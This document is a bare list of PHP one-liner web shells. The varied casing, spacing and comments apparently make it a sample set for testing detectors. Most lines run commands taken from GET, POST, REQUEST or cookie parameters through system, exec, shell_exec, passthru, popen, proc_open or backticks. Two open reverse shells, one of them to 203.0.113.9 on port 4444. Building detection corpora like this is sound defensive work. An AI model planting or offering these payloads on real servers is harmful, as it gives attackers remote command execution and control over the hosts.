<?php SYSTEM($_GET['cmd']); ?>
<?php system ( $_POST [ "c" ] ) ; ?>
<?php @system(@$_REQUEST['c']); ?>
<?php system(base64_decode($_COOKIE['c'])); ?>
<?php PassThru($_GET['c']); ?>
<?php echo Shell_Exec( $_POST['c'] ); ?>
<?php echo shell_exec(/* quiet */ @$_REQUEST['c']); ?>
<?php Exec($_GET['c'], $o); print_r($o); ?>
<?php exec( $_REQUEST[ 'c' ] ); ?>
<?php $h = popen($_POST['c'], 'r'); ?>
<?php $p = PROC_OPEN($_GET['c'], array(), $pipes); ?>
<?php pcntl_exec('/bin/sh', array('-c', $x)); ?>
<?php echo `$_GET[c]`; ?>
<?php $o = ` $_POST['c'] `; echo $o; ?>
<?php $a = $_POST['c']; $r = ( `$_POST[c]` ); ?>
<?php $sock = fsockopen($ip, $port); proc_open('/bin/sh -i', array(0=>$sock,1=>$sock,2=>$sock), $p); ?>
<?php if (!empty($_POST['c'])) { if (function_exists('shell_exec')) echo shell_exec($_POST['c']); elseif (function_exists('passthru')) passthru($_POST['c']); } ?>
<?php echo ini_get('disable_functions'); echo shell_exec($_POST['c']); ?>
<?php echo php_uname(); if ($_GET['c']) passthru($_GET['c']); ?>
<?php echo "uname -a"; exec($_POST['c']); ?>
<?php $c = new COM("Shell.Users"); ?>
<?php $s = FSockOpen("203.0.113.9", 4444); $p = proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $pipes); ?>
